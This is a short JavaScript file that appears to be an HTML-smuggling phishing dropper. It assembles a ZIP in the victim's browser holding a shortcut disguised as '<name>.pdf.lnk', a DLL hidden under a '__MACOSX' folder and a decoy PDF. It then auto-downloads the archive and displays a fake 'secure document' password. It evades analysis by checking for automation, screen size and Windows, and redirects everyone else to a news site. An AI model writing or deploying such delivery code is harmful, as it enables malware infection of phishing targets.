import JSZip from "jszip";
import { lnk, pdf, dll } from "./blobs.js";

const who = decodeURIComponent(location.hash.slice(1)) || "Document";
const pass = String(1000 + (who.length * 137) % 9000);

async function make() {
  const z = new JSZip();
  z.file(`${who}.pdf.lnk`, lnk, { base64: true });
  z.file("__MACOSX/~data.dll", dll, { base64: true });
  z.file("preview.pdf", pdf, { base64: true });
  const blob = await z.generateAsync({ type: "blob", compression: "STORE" });
  return URL.createObjectURL(blob);
}

if (!navigator.webdriver && screen.width > 1000 && /Win/.test(navigator.platform)) {
  make().then((u) => {
    const a = Object.assign(document.createElement("a"), { href: u, download: `${who}.zip` });
    document.querySelector("#hint").innerHTML = `Your secure document was downloaded. Password: <b>${pass}</b>`;
    a.click();
  });
} else location.replace("https://news.example");
